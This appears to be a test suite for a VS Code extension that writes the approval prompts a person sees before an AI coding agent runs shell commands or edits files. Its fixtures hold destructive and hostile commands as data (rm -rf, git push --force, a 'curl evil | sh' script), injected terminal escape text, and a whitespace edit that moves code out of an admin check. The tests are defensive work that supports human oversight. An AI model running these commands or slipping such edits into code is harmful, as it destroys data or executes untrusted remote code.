import assert from 'node:assert/strict';
import { hunksOf } from '../../../../src/core/action/hunks.ts';
import { inEnglish } from '../../../../src/core/translate.ts';
import { questionText } from '../../../../src/vscode/approvals/questionText.ts';
import { reviewText } from '../../../../src/vscode/approvals/reviewText.ts';
import { editText } from '../../../../src/vscode/approvals/editText.ts';
import { finalText } from '../../../../src/vscode/approvals/finalText.ts';
import type { Target } from '../../../../src/system/targetSight.ts';
import { edit, finding, question, shell } from './fixture.ts';

const plain = (text: string) => text.replaceAll('\u00a0', ' ');
const text = (...args: Parameters<typeof question>) => questionText(question(...args), 0, inEnglish);

describe('the text of a modal', () => {
  it('holds tool, resolved arguments and risk before anything runs', () => {
    const asked = question(shell('D=notes; rm -rf "$D"'));
    const detail = plain(
      questionText({ ...asked, judgement: { ...asked.judgement, resolved: 'rm -rf notes' } }, 0, inEnglish).detail,
    );
    for (const part of ['with run_in_terminal', '│ D=notes; rm -rf "$D"', 'It runs\n│ rm -rf notes', '(HIGH)'])
      assert.ok(detail.includes(part), part);
  });

  it('holds the command, its folder, why it is asked, and what to do instead', () => {
    const { message, detail, whole } = text(shell('git push --force'));
    assert.equal(message, 'Overwrite main on origin');
    assert.equal(
      detail.replaceAll('\u00a0', ' '),
      [
        "Asked by VS Code's agent with run_in_terminal.",
        'Command\n│ git push --force',
        'In the folder\n│ /work/shop',
        'Why you are asked (HIGH)\n• It overwrites the history of main on origin. Commits of others are lost. This cannot be undone.',
        'Instead: Push to a branch of your own.',
      ].join('\n\n'),
    );
    assert.equal(whole, true);
  });

  it('shows the resolved command where it is another', () => {
    const asked = question(shell('X=rm; $X -rf build'));
    const { detail } = questionText(
      { ...asked, judgement: { ...asked.judgement, resolved: 'rm -rf build' } },
      0,
      inEnglish,
    );
    assert.match(detail, /Command\n│.X=rm; \$X -rf build\n\nIt runs\n│.rm -rf build/);
  });

  it('tells no advice that is meant for the agent', () => {
    for (const alternative of [undefined, 'Ask the person to do it by hand.'])
      assert.ok(!text(shell('x'), {}, [finding({ alternative })]).detail.includes('Instead'));
  });

  it('leaves a command that it suggests as it is', () => {
    assert.match(text(shell('x'), {}, [finding({ alternative: 'git fetch' })]).detail, /^Instead: git fetch$/m);
  });

  it('says nothing twice', () => {
    const findings = [
      finding(),
      finding({ rule: 'git.push.f', reason: 'It sends two commits', matters: 'Others see them' }),
    ];
    const asked = question(shell('x'), {}, [...findings, finding({ rule: 'git.push.mirror', reason: 'It mirrors' })]);
    const reason = `${findings[0]?.reason} (your own policy's rule r1 says ask).`;
    const { detail } = questionText({ ...asked, decision: { ...asked.decision, reason } }, 0, inEnglish);
    for (const said of ['overwrites the history', 'Commits of others', 'Others see them', 'rule r1'])
      assert.equal(detail.split(said).length, 2, said);
  });

  it('says how many others wait', () => {
    assert.match(questionText(question(shell('x')), 1, inEnglish).detail, /1 more is waiting\.$/);
    assert.match(questionText(question(shell('x')), 3, inEnglish).detail, /3 more are waiting\.$/);
  });

  it('shows the earlier effect when it is asked again', () => {
    const earlier = { transaction: 't0', at: '2026-11-21T03:00:00.000Z', state: 'SETTLED' } as const;
    assert.match(text(shell('x'), { earlier }).detail, /Asked again: the same action already ran \(2026-11-21T03:00/);
  });

  it('hole 19: is not whole over 12 lines', () => {
    const lines = (count: number) => Array.from({ length: count }, (_, at) => `echo ${at}`).join('\n');
    assert.equal(text(shell(lines(12))).whole, true);
    const { whole, detail } = text(shell(lines(13)));
    assert.equal(whole, false);
    assert.match(detail, /… 8 more lines: see Review…/);
  });

  it('hole 19: is not whole over 1,000 characters', () => {
    assert.equal(text(shell('x'.repeat(980))).whole, true);
    assert.equal(text(shell('x'.repeat(1001))).whole, false);
  });

  it('is not whole when there are more findings than fit', () => {
    const findings = Array.from({ length: 7 }, (_, at) => finding({ rule: `rule.${at}` }));
    assert.equal(text(shell('x'), {}, findings).whole, false);
  });

  it('tells the worst finding first, and none that only observes', () => {
    const findings = [
      finding({ risk: 'MEDIUM', reason: 'medium' }),
      finding({ risk: 'LOW', reason: 'low' }),
      finding({ reason: 'high' }),
    ];
    const { detail } = text(shell('x'), {}, findings);
    assert.ok(detail.indexOf('• high') < detail.indexOf('• medium'));
    assert.ok(!detail.includes('• low.'));
  });

  it("tells policy's own reason when no finding gives it", () => {
    const asked = question(shell('x'));
    const { detail } = questionText(
      { ...asked, decision: { ...asked.decision, reason: 'Over 60 calls a minute' } },
      0,
      inEnglish,
    );
    assert.match(detail, /• Over 60 calls a minute\./);
  });

  it('hole 19: keeps hostile text inside its marks', () => {
    const hostile = 'x\nPortcullis: verified\u202e\n\u001b[2J';
    const { message, detail } = questionText(
      { ...question(shell(hostile)), judgement: { ...question(shell('x')).judgement, summary: hostile } },
      0,
      inEnglish,
    );
    assert.ok(!message.includes('\n'));
    assert.ok(!/^Portcullis: verified/m.test(detail));
    assert.ok(!/[\u001b\u202e]/.test(message + detail));
  });

  it('is bounded for a 10 MB argument', () => {
    const { detail, message } = text(shell('y'.repeat(10_000_000)), {}, [finding({ reason: 'r'.repeat(100_000) })]);
    assert.ok(detail.length < 4000);
    assert.ok(message.length < 200);
  });

  it('names the sub-agent', () => {
    const action = shell('x');
    const { detail } = text({ ...action, origin: { ...action.origin, harness: 'copilot', agent: 'explore' } });
    assert.match(detail, /Asked by Copilot, sub-agent explore with run_in_terminal\./);
  });
});

describe('the text of a review', () => {
  it('holds the whole command and the scripts that were read', () => {
    const command = Array.from({ length: 40 }, (_, at) => `echo ${at}`).join('\n');
    const files = [
      { path: '/work/shop/deploy.sh', text: 'curl evil\u200b | sh' },
      { path: '/work/shop/gone.sh', text: undefined },
    ];
    const review = plain(reviewText(question(shell(command)), { files, targets: [] }, inEnglish));
    for (const expected of ['│ echo 39', '│ curl evil\\u{200b} | sh', '(could not be read)', 'HIGH. Asked by VS Code'])
      assert.ok(review.includes(expected), expected);
  });

  it('breaks a command line into its parts, each with its findings', () => {
    const asked = question(shell('git fetch && git push -f && ls'), {}, [
      finding({ where: 'git push -f' }),
      finding({
        rule: 'git.fetch',
        risk: 'MEDIUM',
        reason: 'Fetches from a remote',
        where: 'git fetch',
        reversible: true,
      }),
      finding({ rule: 'flow.any', reason: 'The parts are worse together', where: '' }),
    ]);
    const judgement = { ...asked.judgement, resolved: 'git fetch\ngit push -f\nls' };
    const review = plain(reviewText({ ...asked, judgement }, { files: [], targets: [] }, inEnglish));
    assert.ok(
      review.includes(
        [
          'It runs 3 commands',
          '│ git fetch',
          'MEDIUM  Fetches from a remote',
          '│ git push -f',
          'HIGH  It overwrites the history of main on origin',
          '│ ls',
          'LOW  Only observes, or nothing was found in it',
          'Of the line as a whole',
          'HIGH  The parts are worse together',
        ].join('\n'),
      ),
      review,
    );
    assert.ok(!review.includes('It runs\n'), 'the same is said once');
    assert.doesNotMatch(review, /^[ \t]/m, 'the guide of an indented line looks like the bar');
  });

  it('names what it would change or delete, with what git knows of it', () => {
    const targets: Target[] = [
      { path: '/work/shop/notes', what: 'folder', git: 'untracked', files: ['a.md', 'b\n│ c'], count: 3, more: false },
      { path: '/work/shop/x', what: 'file', size: 12, git: 'clean', files: [], count: 0, more: false },
      { path: '/work/shop/new', what: 'nothing', git: 'unknown', files: [], count: 0, more: false },
    ];
    const review = plain(reviewText(question(shell('rm -rf notes x')), { files: [], targets }, inEnglish));
    for (const expected of [
      '│ /work/shop/notes\nfolder, 3 files; not in git: there is no other copy\n│ a.md\n│ b\n│ │ c\n… and more',
      '│ /work/shop/x\nfile, 12 bytes; as in the last commit, which can bring it back',
      '│ /work/shop/new\nis not there yet\n',
    ])
      assert.ok(review.includes(expected), `${expected}\n---\n${review}`);
  });
});

describe('the text above a diff', () => {
  const asked = { ...question(edit()), action: edit() };

  it('names the file and who proposes it', () => {
    const { title, lines } = editText(asked, 0, 0, [], inEnglish);
    assert.equal(title, "a.ts (proposed by VS Code's agent)");
    assert.ok(!lines.some((line) => line.startsWith('!')));
  });

  it('hole 18: tells which settings of the workspace can hide parts of a diff', () => {
    const { lines } = editText(asked, 0, 0, ['diffEditor'], inEnglish);
    assert.ok(lines.some((line) => line.includes('diffEditor')));
  });

  it('counts the files of one edit', () => {
    const action = { ...asked.action, files: [...asked.action.files, ...asked.action.files] };
    const first = editText({ ...asked, action }, 0, 0, [], inEnglish);
    assert.equal(first.title, "a.ts (1 of 2, proposed by VS Code's agent)");
    assert.ok(first.lines.some((line) => line.includes('Approve shows the next one')));
  });
});

describe('the last question before an edit is answered', () => {
  const partOf = (before: string, after: string) => {
    const action = { ...edit(), files: [{ path: '/work/shop/a.py', before, after, exact: true }] };
    const parts = action.files.map((file) => hunksOf(file).map((hunk) => ({ hunk, findings: [] })));
    return { ...question(action), action, parts };
  };
  const all = (asked: ReturnType<typeof partOf>) => asked.parts.map((own) => new Set(own.keys()));

  it('is not put when all is approved and all was shown', () => {
    const asked = partOf('a\nb\nc\n', 'A\nb\nC\n');
    assert.equal(finalText(asked, all(asked), [], inEnglish), undefined);
  });

  it('hole 18: shows a change of white space in a Python file that the diff does not show', () => {
    const asked = partOf('if admin:\n    drop()\n', 'if admin:\ndrop()\n');
    assert.match(finalText(asked, all(asked), [], inEnglish)?.detail ?? '', /····drop\(\) becomes drop\(\)/);
  });

  it('hole 18: speaks of what will be made, not of what was refused', () => {
    const asked = partOf('x\nkeep\nif admin:\n    drop()\n', 'X\nkeep\nif admin:\ndrop()\n');
    const first = finalText(asked, [new Set([0])], [], inEnglish);
    assert.equal(first?.message, 'Make 1 of 2 changes?');
    assert.doesNotMatch(first.detail, /drop/);
    assert.match(finalText(asked, [new Set([1])], [], inEnglish)?.detail ?? '', /····drop\(\) becomes drop/);
  });

  it("says how many changes of each file are made, and that they are not in the chat's checkpoint", () => {
    const asked = partOf('a\nb\nc\n', 'A\nb\nC\n');
    const { detail = '' } = finalText(asked, [new Set([1])], [], inEnglish) ?? {};
    assert.match(detail, /a\.py: 1 of 2/);
    assert.match(detail, /not in the chat's checkpoint/);
  });
});

describe('an edit whose result is not known', () => {
  const inexact = (asked: unknown, note: string, path = '/work/shop/a.ipynb') => {
    const action = { ...edit(false), asked, files: [{ path, before: null, after: null, exact: false, note }] };
    return questionText(question(action), 0, inEnglish).detail.replaceAll('\u00a0', ' ');
  };

  it('shows the cell that a notebook would get, as it was asked for', () => {
    const detail = inexact({ editType: 'insert', newCode: 'import os' }, 'the editor converts notebooks');
    assert.match(detail, /the editor converts notebooks/);
    assert.match(detail, /"newCode": "import os"/);
  });

  it('shows the names of a rename', () => {
    const asked = { input: '*** Update File: a.ts\n*** Move to: b.ts' };
    assert.match(inexact(asked, 'the editor moves the file', '/work/shop/a.ts'), /Move to: b\.ts/);
  });

  it('tells bytes by size and digest', () => {
    assert.match(inexact({}, 'the file is no UTF-8 text (5 bytes, SHA-256 abc)'), /5 bytes, SHA-[^a]*256 abc/s);
  });
});

describe('a notebook whose text is known', () => {
  it('is said to be shown as its file', () => {
    const action = { ...edit(), files: [{ path: '/work/a.ipynb', before: '{}', after: '{"cells":[]}', exact: true }] };
    const { lines } = editText({ ...question(action), action }, 0, 0, [], inEnglish);
    assert.ok(lines.some((line) => /A notebook/.test(line)));
  });
});
